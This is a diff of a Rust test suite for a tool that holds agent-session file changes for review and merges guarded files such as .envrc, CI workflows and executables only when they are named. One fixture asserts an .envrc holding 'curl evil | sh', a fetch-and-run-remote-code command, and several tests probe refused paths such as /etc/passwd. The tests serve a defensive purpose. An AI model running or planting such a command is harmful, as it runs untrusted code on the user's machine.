@@ -35,18 +35,18 @@ pub(crate) fn changed(room: &Room) -> SessionDirectory {
     session
 }
 
-fn of(session: &str, paths: &[PathBuf]) -> Select {
+pub(crate) fn of(session: &str, paths: &[PathBuf]) -> Select {
     Select { session: Some(session.into()), paths: paths.to_vec(), ..Select::default() }
 }
 
-fn diff(room: &Room, id: &str, paths: &[PathBuf]) -> Vec<ChangeInfo> {
+pub(crate) fn diff(room: &Room, id: &str, paths: &[PathBuf]) -> Vec<ChangeInfo> {
     match room.yes(Request::Diff(of(id, paths))) {
         Reply::Diff(answer) => answer.changes,
         other => panic!("{other:?}"),
     }
 }
 
-fn merged(reply: Reply) -> MergeAnswer {
+pub(crate) fn merged(reply: Reply) -> MergeAnswer {
     match reply {
         Reply::Merged(answer) => *answer,
         other => panic!("{other:?}"),
@@ -87,7 +87,7 @@ fn a_running_session_is_shown_and_not_merged() {
     assert!(shown[0].held.as_ref().is_some_and(|why| why.starts_with("guarded")) && shown[1].held.is_none());
     assert!(shown[0].flags.contains(&"guarded".to_owned()), "{:?}", shown[0].flags);
     assert!(shown.iter().all(|change| !change.diff.contains('\x1b')));
-    assert_eq!(room.no(Request::Apply(of(&id, &[]))).code, "E-PLANE-010");
+    assert_eq!(room.no(Request::Apply { select: of(&id, &[]), over: Vec::new() }).code, "E-PLANE-010");
     assert_eq!(room.no(Request::Discard(of(&id, &[]))).code, "E-PLANE-010");
     assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
     assert_eq!(plane::verbs::changes::list(&session).unwrap().len(), 7);
@@ -99,19 +99,20 @@ fn what_was_reviewed_is_merged_and_what_is_guarded_only_when_named() {
     let room = Room::new();
     let id = changed(&room).record.id.clone();
     assert_eq!(pending(&room, &id), Some(7));
-    let one = merged(room.yes(Request::Apply(of(&id, &[room.path("work/kept.txt")]))));
+    let one = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/kept.txt")]), over: Vec::new() }));
     assert_eq!((one.done, one.left), (vec!["kept.txt".to_owned()], Vec::new()));
     assert_eq!(merges(&room, &id), ["begun", "merged"]);
     assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "after\n");
     assert_eq!(fs::read_to_string(room.path("cache/seen.txt")).unwrap(), "before\n");
-    let all = merged(room.yes(Request::Apply(of(&id, &[]))));
+    let all = merged(room.yes(Request::Apply { select: of(&id, &[]), over: Vec::new() }));
     assert!(all.left.iter().any(|(path, why)| path == ".envrc" && why.starts_with("held back")), "{:?}", all.left);
     assert!(!room.path("work/.envrc").exists());
     assert_eq!(fs::read_to_string(room.path("cache/seen.txt")).unwrap(), "after\n");
     // Naming the directory above is not naming it.
-    let above = merged(room.yes(Request::Apply(of(&id, &[room.path("work")]))));
+    let above = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work")]), over: Vec::new() }));
     assert!(above.done.is_empty() && !room.path("work/.envrc").exists(), "{above:?}");
-    let named = merged(room.yes(Request::Apply(of(&id, &[room.path("work/./src/../.envrc")]))));
+    let named =
+        merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/./src/../.envrc")]), over: Vec::new() }));
     assert_eq!(named.done, [".envrc"]);
     assert_eq!(fs::read_to_string(room.path("work/.envrc")).unwrap(), "curl evil | sh\n");
     let _ = merged(room.yes(Request::Discard(of(&id, &[]))));
@@ -179,13 +180,13 @@ fn what_the_operators_words_do_not_ask_for_is_held_until_it_is_named() {
         assert!(plain.held.is_none() && plain.flags.is_empty(), "{plain:?}");
         let ci = shown.iter().find(|one| one.path == ".github/workflows/x.yml").unwrap();
         assert!(ci.held.as_ref().is_some_and(|why| why.contains("nothing that the operator said names it")), "{ci:?}");
-        let all = merged(room.yes(Request::Apply(of(&id, &[]))));
+        let all = merged(room.yes(Request::Apply { select: of(&id, &[]), over: Vec::new() }));
         assert!(all.done.contains(&"plain.txt".to_owned()), "{all:?}");
         let left = |path: &str| all.left.iter().find(|(left, _)| left == path).map(|(_, why)| why.as_str());
         assert!(left("go").is_some_and(|why| why.contains("asks for what can be run")), "{all:?}");
         assert!(!room.path("work/go").exists() && !room.path("work/.github/workflows/x.yml").exists());
         assert!(room.path("work/old.txt").exists());
-        let named = merged(room.yes(Request::Apply(of(&id, &[room.path("work/go")]))));
+        let named = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/go")]), over: Vec::new() }));
         assert_eq!(named.done, ["go"]);
         let _ = merged(room.yes(Request::Discard(of(&id, &[]))));
         fs::remove_file(room.path("work/go")).unwrap();
@@ -197,7 +198,7 @@ fn what_the_operators_words_do_not_ask_for_is_held_until_it_is_named() {
 fn a_guarded_name_brings_the_new_directories_above_it() {
     let room = Room::new();
     let id = changed(&room).record.id.clone();
-    let named = merged(room.yes(Request::Apply(of(&id, &[room.path("work/sub/.envrc")]))));
+    let named = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/sub/.envrc")]), over: Vec::new() }));
     assert_eq!((named.done, named.left), (vec!["sub".to_owned(), "sub/.envrc".into()], Vec::new()));
 }
 
@@ -224,10 +225,11 @@ fn a_path_outside_of_every_tree_is_refused() {
     let room = Room::new();
     let id = changed(&room).record.id.clone();
     for path in [room.path("elsewhere"), PathBuf::from("/etc/passwd"), room.path("work/../../x"), "relative".into()] {
-        assert_eq!(room.no(Request::Apply(of(&id, &[path]))).code, "E-PLANE-019");
+        assert_eq!(room.no(Request::Apply { select: of(&id, &[path]), over: Vec::new() }).code, "E-PLANE-019");
     }
     std::os::unix::fs::symlink(room.path("work"), room.path("alias")).unwrap();
-    let aliased = merged(room.yes(Request::Apply(of(&id, &[room.path("alias/kept.txt")]))));
+    let aliased =
+        merged(room.yes(Request::Apply { select: of(&id, &[room.path("alias/kept.txt")]), over: Vec::new() }));
     assert_eq!(aliased.done, ["kept.txt"]);
 }
 
@@ -240,7 +242,7 @@ fn what_cannot_be_recorded_is_not_done() {
     broken[100] ^= 1;
     fs::write(segment, broken).unwrap();
     drop(session);
-    assert_eq!(room.no(Request::Apply(of(&id, &[]))).code, "E-PLANE-072");
+    assert_eq!(room.no(Request::Apply { select: of(&id, &[]), over: Vec::new() }).code, "E-PLANE-072");
     assert_eq!(room.no(Request::Discard(of(&id, &[]))).code, "E-PLANE-072");
     assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
     assert_eq!(pending(&room, &id), Some(7));
@@ -258,40 +260,13 @@ fn without_the_policy_nothing_is_merged_and_all_can_be_thrown_away() {
             Some(text) => fs::write(&policy, text).unwrap(),
             None => fs::remove_file(&policy).unwrap(),
         }
-        for request in [Request::Apply(of(&id, &[])), Request::Diff(of(&id, &[]))] {
+        for request in [Request::Apply { select: of(&id, &[]), over: Vec::new() }, Request::Diff(of(&id, &[]))] {
             assert!(["E-PLANE-014", "E-PLANE-001"].contains(&room.no(request).code.as_str()));
         }
         assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
         assert!(!room.path("work/.envrc").exists());
     }
     assert!(!merged(room.yes(Request::Discard(of(&id, &[])))).done.is_empty());
-}
-
-/// What was merged was once what lay there at that moment: a session that went on after the look brought its last word.
-#[test]
-fn what_changed_since_the_operator_looked_is_left() {
-    let room = Room::new();
-    let session = changed(&room);
-    let (id, upper) = (session.record.id.clone(), session.path.join("changes/0/upper"));
-    drop(session);
-    // Only a part was looked at: the rest is merged as it is.
-    assert_eq!(diff(&room, &id, &[room.path("work/kept.txt"), room.path("work/src")]).len(), 3);
-    fs::write(upper.join("kept.txt"), "evil\n").unwrap();
-    fs::write(upper.join("src/late.txt"), "evil\n").unwrap();
-    let all = merged(room.yes(Request::Apply(of(&id, &[]))));
-    let late: Vec<_> = all.left.iter().filter(|(_, why)| why.starts_with("changed since you looked")).collect();
-    let late: Vec<_> = late.iter().map(|(path, _)| path.as_str()).collect();
-    assert_eq!(late, ["kept.txt", "src/late.txt"]);
-    assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
-    assert!(room.path("work/src/new\x1b[2J.txt").exists() && !room.path("work/src/late.txt").exists());
-    assert_eq!(fs::read_to_string(room.path("cache/seen.txt")).unwrap(), "after\n");
-    // Looked at again, it is merged.
-    let _ = diff(&room, &id, &[]);
-    let again = merged(room.yes(Request::Apply(of(&id, &[]))));
-    assert!(
-        again.done.contains(&"kept.txt".to_owned()) && again.done.contains(&"src/late.txt".to_owned()),
-        "{again:?}"
-    );
 }
 
 /// An original that was gone, or more changes than are walked, kept the operator from throwing them away; and what the
@@ -308,7 +283,7 @@ fn all_is_thrown_away_also_where_nothing_can_be_listed() {
     fs::set_permissions(&closed, fs::Permissions::from_mode(0o000)).unwrap();
     fs::rename(room.path("work"), room.path("elsewhere")).unwrap();
     fs::create_dir(room.path("work")).unwrap();
-    assert_eq!(room.no(Request::Apply(of(&id, &[]))).code, "E-PLANE-073");
+    assert_eq!(room.no(Request::Apply { select: of(&id, &[]), over: Vec::new() }).code, "E-PLANE-073");
     let gone = merged(room.yes(Request::Discard(of(&id, &[]))));
     assert_eq!(gone.done[0], room.path("work").display().to_string());
     assert_eq!(fs::read_dir(path.join("changes/0/upper")).unwrap().count(), 0);
@@ -326,7 +301,11 @@ fn a_damaged_session_never_makes_an_older_one_the_newest() {
     drop(newer);
     fs::write(record, "{").unwrap();
     let select = Select { directory: room.path("work"), ..Select::default() };
-    for request in [Request::Discard(select.clone()), Request::Apply(select.clone()), Request::Show(select)] {
+    for request in [
+        Request::Discard(select.clone()),
+        Request::Apply { select: select.clone(), over: Vec::new() },
+        Request::Show(select),
+    ] {
         let problem = room.no(request);
         assert_eq!(problem.code, "E-PLANE-014");
         assert!(problem.cause.contains(&id) && problem.hint.unwrap().contains(&older), "{}", problem.cause);
@@ -343,6 +322,27 @@ fn cut_short(session: &SessionDirectory, step: usize) -> bool {
     let changes = workspace.changes(&[]).unwrap();
     let filter = Filter { paths: vec!["kept.txt".into()], ..Filter::default() };
     workspace.apply_in(&changes, &filter, &mut Steps::limited(step)).is_err()
+}
+
+/// A name that is nowhere is a mistake, and is told as one; what was merged already is none.
+#[test]
+fn a_path_at_which_nothing_was_changed_is_told() {
+    let room = Room::new();
+    let session = changed(&room);
+    let id = session.record.id.clone();
+    drop(session);
+    let apply = |select| Request::Apply { select, over: Vec::new() };
+    for request in [apply, Request::Discard] {
+        assert_eq!(room.no(request(of(&id, &[room.path("work/kpet.txt")]))).code, "E-PLANE-036");
+    }
+    for left in [1, 0] {
+        assert_eq!(
+            merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/kept.txt")]), over: Vec::new() }))
+                .done
+                .len(),
+            left
+        );
+    }
 }
 
 #[test]
@@ -367,7 +367,7 @@ fn a_merge_that_was_cut_short_is_whole_before_anything_else() {
         }
         assert!(["before\n", "after\n"].contains(&content(&room).as_str()), "step {step}");
         assert!(clean(&room.path("work")), "step {step}");
-        let _ = merged(room.yes(Request::Apply(of(&id, &[room.path("work/kept.txt")]))));
+        let _ = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/kept.txt")]), over: Vec::new() }));
         assert_eq!(content(&room), "after\n", "step {step}");
         if !cut {
             break;
@@ -405,7 +405,7 @@ fn a_cut_merge_of_a_session_that_ended_is_put_in_order_by_whoever_looks_next() {
             "after\n" => after += 1,
             other => panic!("step {step}: {other}"),
         }
-        let _ = merged(room.yes(Request::Apply(of(&id, &[room.path("work/kept.txt")]))));
+        let _ = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/kept.txt")]), over: Vec::new() }));
         assert_eq!((content(&room).as_str(), marks(&room)), ("after\n", 0), "step {step}");
         if !cut {
             break;
